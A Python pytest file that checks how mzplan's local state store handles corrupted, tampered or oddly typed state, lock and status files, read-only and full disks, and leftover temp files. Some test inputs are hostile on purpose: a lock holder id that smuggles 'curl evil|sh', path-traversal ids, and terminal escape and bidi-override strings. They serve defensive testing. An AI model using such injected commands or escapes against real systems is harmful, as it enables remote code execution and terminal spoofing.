"""A store that somebody has damaged, edited, filled with strange files or taken the rights from: one clear
error, in bounded time, and the old state is still there."""

from __future__ import annotations

import errno
import hashlib
import json
import os
import resource
import signal
import time
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest

from mzplan.controller.memory import InMemoryExecutor
from mzplan.host.processes import is_alive
from mzplan.model.address import Address
from mzplan.model.diagnostics import MzplanError
from mzplan.runner.loop import Runner
from mzplan.store.backends.local import STATE_KEY, LocalBackend
from mzplan.store.formats import decode_status, encode_status
from mzplan.store.store import Store
from tests.runners import runner_in_memory
from tests.unit.cli_runs import Ran, apply, mzplan, write

Edit = Callable[[dict[str, Any]], Any]


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    """A project with one serial, and a change to apply."""
    apply(write(tmp_path))
    return write(tmp_path, broker="b")


def state_file(folder: Path) -> Path:
    return folder / "state" / STATE_KEY


def edit_state(folder: Path, edit: Edit) -> None:
    """Change the state's content, and make its checksum right again."""
    document = json.loads(state_file(folder).read_text())
    edit(document)
    document["checksum"] = ""
    text = json.dumps(document, indent=2)
    digest = hashlib.sha256(text.encode()).hexdigest()
    state_file(folder).write_text(text.replace('"checksum": ""', f'"checksum": "sha256:{digest}"', 1))


def refused(folder: Path, *arguments: str, code: str) -> dict[str, Any]:
    """A command that must fail with this code, and leave the state as it is."""
    before = state_file(folder).read_bytes() if state_file(folder).is_file() else None
    began = time.monotonic()
    ran = mzplan(folder, *arguments, "--json")
    assert time.monotonic() - began < 20
    assert ran.code == 1, ran
    found = ran.error()
    assert found["code"] == code and found["hint"], found
    assert (state_file(folder).read_bytes() if state_file(folder).is_file() else None) == before
    return found


APPLY = ("apply", "--auto-approve")


# --- content with a right checksum


def at(address: str, **values: Any) -> Edit:
    return lambda document: document["resources"][address].update(values)


@pytest.mark.parametrize(
    ("edit", "says"),
    [
        (at("source.orders", id="../../../etc"), "source.orders: id is not an id"),
        (at("source.orders", id=""), "source.orders: id is not an id"),
        (at("source.orders", id=7), "source.orders: id is not an id"),
        (at("source.orders", generation=0), "source.orders: generation is out of range"),
        (at("source.orders", generation=True), "source.orders: generation is not a whole number"),
        (at("source.orders", generation=10**40), "source.orders: generation is out of range"),
        (at("source.orders", body=[]), "source.orders: body is not a mapping"),
        (at("source.orders", body={"instance": "../x"}), "instance is not the name of an instance"),
        (at("source.orders", body={"instance": "gone"}), "instance gone, which isn't declared"),
        (at("sink.out", references={}), "sink.out should read a collection"),
        (
            at("source.orders", references={"connection": "source.orders"}),
            "resources refer to each other in a cycle: source.orders refers to source.orders",
        ),
        (at("source.orders", body={"lifecycle": 5}), "source.orders: lifecycle is not a mapping"),
        (
            at("source.orders", references={"connection": "connection.gone"}),
            "refers to a resource that isn't there",
        ),
        (at("source.orders", references=[]), "references of source.orders is not a mapping"),
        (at("source.orders", override="stopped"), "override has an unknown value"),
        (at("source.orders", digest=None), "digest is missing"),
        (lambda d: d["resources"].update({"table.x": {}}), "'table.x' is not an address"),
        (lambda d: d["resources"].update({"source.../x": {}}), "is not an address"),
        (lambda d: d["resources"].update({"source." + "x" * 5000: {}}), "is not an address"),
        (lambda d: d.update(resources=[]), "resources is not a mapping"),
        (lambda d: d["instances"].update({"../x": {"type": "dry"}}), "is not the name of an instance"),
        (lambda d: d["instances"].update(local={"type": "quantum"}), "type has an unknown value"),
        (lambda d: d.update(serial="7"), "serial is not a whole number"),
        (lambda d: d.update(serial=-1), "serial is out of range"),
        (lambda d: d.update(serial=10**300), "serial is out of range"),
        (lambda d: d.update(serial=float("nan")), "NaN is not a number"),
        (lambda d: d.update(lineage=None), "lineage is missing"),
        (lambda d: d.update(project="\ud800"), "unpaired surrogate"),
    ],
)
def test_a_wrong_value_is_said(folder: Path, edit: Edit, says: str) -> None:
    edit_state(folder, edit)
    for arguments in (("plan",), APPLY, ("status",), ("pause", "source.orders")):
        found = refused(folder, *arguments, code="MZ030")
        assert says in found["detail"], found


def test_what_only_a_newer_mzplan_knows(folder: Path) -> None:
    edit_state(folder, at("source.orders", type="mysql"))
    assert "a source of type 'mysql'" in refused(folder, *APPLY, code="MZ031")["detail"]
    edit_state(folder, lambda document: document.update(format_version=2))
    assert "format version 2" in refused(folder, "plan", code="MZ031")["detail"]


def test_a_key_twice(folder: Path) -> None:
    text = state_file(folder).read_text()
    state_file(folder).write_text(text.replace('"serial": 1,', '"serial": 1, "serial": 9,'))
    assert "'serial' twice" in refused(folder, "plan", code="MZ030")["detail"]


@pytest.mark.parametrize(
    ("data", "says"),
    [
        (b"", "it is empty"),
        (b'{\n  "format_version": 1,', "it is incomplete"),
        (b'{"a": "b', "it is incomplete"),
        (b"{]", "line 1, column 2"),
        (b"[" * 200_000, "nested too deeply"),
        (b"\xff\xfe{}", "not UTF-8"),
        (b"12", "not a mapping"),
        (b'{"format_version": 1' + b"0" * 5000 + b"}", ""),
    ],
)
def test_a_state_that_is_none(folder: Path, data: bytes, says: str) -> None:
    state_file(folder).write_bytes(data)
    assert says in refused(folder, *APPLY, code="MZ030")["detail"]


def test_resources_in_a_circle_end_in_an_error(folder: Path) -> None:
    edit_state(folder, at("connection.k", references={"connection": "connection.k"}))
    for arguments in (("plan",), APPLY, ("restart", "source.orders"), ("plan", "--target", "source.orders")):
        assert mzplan(folder, *arguments, "--json").code in (0, 1)


# --- files that are no files


def test_a_pipe_instead_of_the_state_is_not_waited_for(folder: Path) -> None:
    state_file(folder).unlink()
    os.mkfifo(state_file(folder))
    assert "not a regular file" in refused(folder, "plan", code="MZ030")["detail"]


@pytest.mark.parametrize("key", [STATE_KEY, "leases/local.json"])
def test_a_folder_instead_of_a_file(folder: Path, key: str) -> None:
    (folder / "state" / key).unlink()
    (folder / "state" / key).mkdir()
    ran = mzplan(folder, "status", "--json")
    assert (ran.code, ran.error()["code"]) == (1, "MZ030")


def test_a_link_that_leads_in_a_circle(folder: Path) -> None:
    state_file(folder).unlink()
    state_file(folder).symlink_to(STATE_KEY)
    refused(folder, *APPLY, code="MZ030")


@pytest.mark.parametrize("name", ["history", "proposals", "status", "leases", "journal"])
def test_a_file_instead_of_a_folder(folder: Path, name: str) -> None:
    before = state_file(folder).read_bytes()
    path = folder / "state" / name
    if path.is_dir():
        for inner in path.iterdir():
            inner.unlink()
        path.rmdir()
    path.write_text("not a folder")
    ran = mzplan(folder, *APPLY, "--wait", "1s", "--json")
    committed = state_file(folder).read_bytes() != before
    assert ran.code in ((0, 8) if committed else (1,)), ran
    if name == "history":
        assert (ran.code, ran.error()["code"]) == (1, "MZ035")


@pytest.mark.parametrize("name", ["lock", ".mutex"])
def test_a_folder_instead_of_the_lock(folder: Path, name: str) -> None:
    (folder / "state" / name).unlink()
    (folder / "state" / name).mkdir()
    refused(folder, *APPLY, code="MZ035")


# --- rights and space


@pytest.fixture
def read_only(folder: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """What a read-only file system says to every write below the store (root may write everywhere else)."""
    real = os.open

    def opened(path: Any, flags: int, *more: Any, **options: Any) -> int:
        handle = options.get("dir_fd")
        whole = Path(f"/proc/self/fd/{handle}").readlink() / path if handle is not None else Path(path)
        if flags & (os.O_WRONLY | os.O_RDWR | os.O_CREAT) and str(folder) in str(whole):
            raise OSError(errno.EROFS, os.strerror(errno.EROFS), path)
        return real(path, flags, *more, **options)

    monkeypatch.setattr(os, "open", opened)
    return folder


def test_a_read_only_store_can_be_read(read_only: Path) -> None:
    assert mzplan(read_only, "plan", "--detailed-exitcode").code == 2
    assert mzplan(read_only, "status").code == 0
    assert mzplan(read_only, "drift").code == 0
    found = refused(read_only, *APPLY, code="MZ035")
    assert "Read-only" in found["detail"] and "read-only" in found["hint"]


@contextmanager
def full_disk() -> Iterator[None]:
    """No file can grow over 700 bytes: a write fails in its middle, as on a full disk. Only around the
    command itself: pytest's own output may go to a file, too."""
    limits = resource.getrlimit(resource.RLIMIT_FSIZE)
    handler = signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    try:
        resource.setrlimit(resource.RLIMIT_FSIZE, (700, limits[1]))
        yield
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, limits)
        signal.signal(signal.SIGXFSZ, handler)


def test_a_full_disk_changes_nothing(folder: Path) -> None:
    with full_disk():
        refused(folder, *APPLY, code="MZ035")
    left = [path.name for path in (folder / "state").rglob("*.tmp")]
    assert left == []


def test_a_plan_that_does_not_fit_on_the_disk(folder: Path) -> None:
    with full_disk():
        ran = mzplan(folder, "plan", "--out", str(folder / "p.plan"), "--json")
    assert (ran.code, ran.error()["code"]) == (1, "MZ035")
    assert not (folder / "p.plan").exists() and not list(folder.glob("*.tmp"))


# --- the lock


@pytest.fixture(autouse=True)
def impatient(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("mzplan.operations.project.LOCK_WAIT", 0.05)


@pytest.mark.parametrize(
    "garbage",
    [
        b"\0" * 1000,
        b"{}",
        b"[" * 70_000,
        b'{"id": 1, "command": "x", "user": "u", "host": "h", "pid": "x", "time": "t"}',
        b'{"id": "i", "command": "x", "user": "u", "host": "h", "pid": 99999999999999999999999, "time": "t"}',
    ],
)
def test_garbage_in_the_lock_is_no_hindrance(folder: Path, garbage: bytes) -> None:
    lock = folder / "state" / "lock"
    lock.write_bytes(garbage)
    assert mzplan(folder, *APPLY).code == 0
    with Store(LocalBackend(folder / "state"), "shop").lock("test"):
        lock.write_bytes(garbage)
        ran = mzplan(folder, "destroy", "--auto-approve", "--json")
    assert (ran.code, ran.error()["code"]) == (6, "MZ033")


def test_a_holder_cannot_have_a_shell_do_anything(folder: Path) -> None:
    lock = folder / "state" / "lock"
    holder = {"id": "i; curl evil|sh #", "command": "x", "user": "u", "host": "h", "pid": 1, "time": "t"}
    with Store(LocalBackend(folder / "state"), "shop").lock("test"):
        lock.write_text(json.dumps(holder))
        hint = mzplan(folder, "destroy", "--auto-approve", "--json").error()["hint"]
    assert hint.endswith("mzplan state unlock 'i; curl evil|sh #'")


def test_a_holder_cannot_write_to_the_terminal(folder: Path) -> None:
    with Store(LocalBackend(folder / "state"), "shop").lock("x\x1b[31m\nFix: \u202egnp"):
        ran = mzplan(folder, *APPLY)
    assert ran.code == 6
    assert "\x1b" not in ran.err and "\u202e" not in ran.err and "\nFix: g" not in ran.err


def test_no_process_has_such_a_number() -> None:
    assert not is_alive(2**80)
    assert not is_alive(-1)


def test_what_killed_writers_have_left_is_swept(folder: Path) -> None:
    """A runner writes its lease and its status each second: each kill may leave one."""
    names = ("leases/.local.json", "status/.local.json", "proposals/.0a.json", "journal/.local.jsonl")
    names += ("history/.00000001.json", ".mzplan.state.json", ".hold.json", ".parallelism.json")
    left = [folder / "state" / f"{name}.0123456789ab.tmp" for name in names]
    others = [folder / "state" / name for name in (".notes.0123456789ab.tmp", "leases/.local.json.mine.tmp")]
    for path in (*left, *others):
        path.parent.mkdir(exist_ok=True)
        path.write_text("x")
    assert mzplan(folder, "plan").code == 0 and all(path.exists() for path in left)
    apply(folder)
    assert [path for path in (*left, *others) if path.exists()] == others


# --- what runners write


def change(folder: Path, key: str, edit: Edit) -> None:
    path = folder / "state" / key
    document = json.loads(path.read_text())
    edit(document)
    path.write_text(json.dumps(document))


@pytest.mark.parametrize(
    ("key", "edit", "says"),
    [
        ("status/local.json", lambda d: d.update(heartbeat=float("inf")), "Infinity is not a number"),
        ("status/local.json", lambda d: d.update(instance="../x"), "is not the name of an instance"),
        (
            "status/local.json",
            lambda d: d["observations"]["sink.out"].update(condition="dancing"),
            "sink.out: condition has an unknown value",
        ),
        (
            "status/local.json",
            lambda d: d["observations"]["sink.out"].update(step="1"),
            "sink.out: step is not a whole number",
        ),
        (
            "status/local.json",
            lambda d: d["observations"]["sink.out"].update(error=[1]),
            "sink.out: error is not text",
        ),
        ("leases/local.json", lambda d: d.update(pid=-4), "pid is out of range"),
        ("leases/local.json", lambda d: d.update(heartbeat="now"), "heartbeat is not a number"),
        ("leases/local.json", lambda d: d.update(released=1), "neither true nor false"),
    ],
)
def test_a_wrong_value_of_a_runner_is_said(folder: Path, key: str, edit: Edit, says: str) -> None:
    change(folder, key, edit)
    found = refused(folder, "status", code="MZ030")
    assert key in found["summary"] and says in found["detail"] and "delete it" in found["hint"]


def test_a_newer_runner_may_say_more(folder: Path) -> None:
    change(folder, "status/local.json", lambda d: d["observations"]["sink.out"].update(mood="good"))
    assert mzplan(folder, "status").code == 0


def test_a_rate_that_spark_cannot_tell_is_zero(folder: Path) -> None:
    store = Store(LocalBackend(folder / "state"), "shop")
    status = store.read_status("local")
    assert status is not None
    seen = status.observations[Address("sink", "out")]
    odd = type(seen)(**{n: getattr(seen, n) for n in seen.__slots__ if n != "input_rows_per_second"},
                     input_rows_per_second=float("nan"))  # fmt: skip
    written = encode_status(type(status)(instance="local", epoch=1, heartbeat=1.0, serial=1,
                                         observations={odd.address: odd}))  # fmt: skip
    assert decode_status(written, "x").observations[odd.address].input_rows_per_second == 0.0


def test_a_code_of_a_status_writes_nothing_to_the_terminal(folder: Path) -> None:
    seen = {"condition": "failed", "error": "no", "error_code": "MZ1\x1b[2J\nsink.few: fine"}
    change(folder, "status/local.json", lambda d: d["observations"]["sink.out"].update(seen))
    assert "sink.out: [MZ1\\x1b[2J\\nsink.few: fine] no\n" in mzplan(folder, "status").out


def test_status_says_what_a_server_keeps_for_a_source(folder: Path) -> None:
    backlog = {"lag_bytes": 2048, "retained_bytes": 5 << 20}
    change(folder, "status/local.json", lambda d: d["observations"]["sink.out"].update(backlog=backlog))
    said = mzplan(folder, "status")
    assert (
        said.code == 0 and "sink.out: 2.0 KiB of the server's log to read; its slot keeps 5.0 MiB" in said.out
    )
    change(
        folder,
        "status/local.json",
        lambda d: d["observations"]["sink.out"].update(backlog={"lag_bytes": "x"}),
    )
    assert "lag_bytes" in refused(folder, "status", code="MZ030")["detail"]


# --- a runner in such a store


@pytest.fixture
def runner(tmp_path: Path) -> Iterator[Runner]:
    write(tmp_path, "cluster")
    assert mzplan(tmp_path, *APPLY, "--no-live", "--wait", "0s").code == 8  # nobody runs it yet
    store = Store(LocalBackend(tmp_path / "state"), "shop")
    lease = store.leases.acquire("local", "test")
    assert lease is not None
    with ThreadPoolExecutor(2) as pool:
        made = runner_in_memory(store, InMemoryExecutor("shop"), lease, pool)
        yield made
        made.proposals.close()


def settled(runner: Runner) -> set[str]:
    until = time.monotonic() + 10
    while runner.tick() and time.monotonic() < until:
        time.sleep(0.01)
    executor = runner.controller.executor
    assert isinstance(executor, InMemoryExecutor)
    return {str(address) for address in executor.running()}


def test_no_proposal_keeps_a_runner_from_its_work(runner: Runner, tmp_path: Path) -> None:
    proposals = tmp_path / "state" / "proposals"
    proposals.mkdir()
    (proposals / "garbage.json").write_bytes(b"\xff{")
    (proposals / "empty.json").write_bytes(b"")
    (proposals / "late.answer.json").write_bytes(b"{}")
    (proposals / "0000000000000001.json").write_text(
        json.dumps({"id": "../../mzplan", "instance": "local", "created": 0, "descriptions": []})
    )
    precious = tmp_path / "mzplan.json"
    precious.write_text("{}")
    (proposals / "aa.json").symlink_to(precious)
    assert settled(runner) == {"source.orders", "sink.out", "sink.few"}
    assert precious.exists() and list(proposals.iterdir()) == []


def test_a_damaged_state_stops_no_query(
    runner: Runner, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    assert len(settled(runner)) == 3
    whole = state_file(tmp_path).read_bytes()
    state_file(tmp_path).write_bytes(whole[:-30])
    caplog.clear()
    assert len(settled(runner)) == 3
    executor = runner.controller.executor
    assert isinstance(executor, InMemoryExecutor)
    assert [what for what, _ in executor.log] == ["start"] * 3
    # It heals meanwhile, and says once, not each round, what is wrong.
    ended = next(iter(executor.running().values())).name
    executor.fail_query(ended, "boom")
    runner.tick()
    runner.controller.queries.clock = lambda: time.monotonic() + 5.0
    assert len(settled(runner)) == 3
    assert [what for what, _ in executor.log] == ["start"] * 3 + ["stop", "start"]
    assert [r.getMessage()[:25] for r in caplog.records if r.levelname == "WARNING"] == [
        "the state can't be read; "
    ]
    state_file(tmp_path).write_bytes(whole)
    assert len(settled(runner)) == 3


def test_an_answer_that_is_none_is_said(runner: Runner, tmp_path: Path) -> None:
    assert len(settled(runner)) == 3
    proposal = runner.store.proposals.make("local", ())
    (tmp_path / "state" / "proposals" / f"{proposal.id}.answer.json").write_text(
        '{"id": "x", "diagnostics": 5}'
    )
    with pytest.raises(MzplanError) as caught:
        runner.store.proposals.read_answer(proposal)
    assert "diagnostics is not a list" in caught.value.diagnostics[0].detail


def test_an_instance_is_never_led_outside(folder: Path) -> None:
    ran: Ran = mzplan(folder, "run", "--instance", "../../x")
    assert ran.code == 64


def test_a_proposal_of_tomorrow_is_dropped(tmp_path: Path) -> None:
    """It would be decoded in each round of a runner."""
    store = Store(LocalBackend(tmp_path / "state"), "shop")
    kept = store.proposals.make("local", ())
    late = store.proposals.make("local", ())
    folder = tmp_path / "state" / "proposals"
    path = folder / f"{late.id}.json"
    path.write_text(json.dumps({**json.loads(path.read_text()), "created": 9e15}))
    assert [proposal.id for proposal in store.proposals.open("local")] == [kept.id]
    assert [path.name for path in folder.iterdir()] == [f"{kept.id}.json"]
